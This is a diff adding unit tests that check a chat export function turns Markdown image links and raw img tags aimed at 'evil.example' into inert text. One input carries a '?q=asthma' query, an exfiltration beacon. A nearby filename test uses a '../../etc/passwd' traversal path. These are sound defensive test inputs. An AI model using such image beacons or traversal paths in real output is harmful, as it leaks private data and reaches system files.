@@ -48,6 +48,17 @@ test("[J-6] the same as Markdown, to be read, with photos named", () => {
 });
 
 test.each([
+  ["![ ](https://evil.example/?q=asthma)", "!\u2060[ ](https://evil.example/?q=asthma)"],
+  ["`a` ![a][b] ![[c]]", "`a` !\u2060[a][b] !\u2060[[c]]"],
+  ["<img src=//evil.example> </p><IMG src=x>", "<\u2060img src=//evil.example> <\u2060/p><\u2060IMG src=x>"],
+  ["Rest!<br>3 < 4, [a page](https://a.example) <br/>", "Rest!<br>3 < 4, [a page](https://a.example) <br/>"],
+])("[J-6] [S27] %j is saved as Markdown of which nothing is fetched", (text, saved) => {
+  const hostile = { ...chat, title: text, messages: [{ ...chat.messages[1], parts: [{ type: "text" as const, text }] }] };
+  const file = exportMarkdown(hostile as typeof chat, { you: "You", formatTime: () => "now" });
+  expect(file).toBe(`# ${saved}\n\n## Amma, now\n\n${saved}\n`);
+});
+
+test.each([
   ["Naps", "Amma Naps.json"],
   ["../../etc/passwd", "Amma .. .. etc passwd.json"],
   ['a<b>:"c"|d?*', "Amma a b c d.json"],
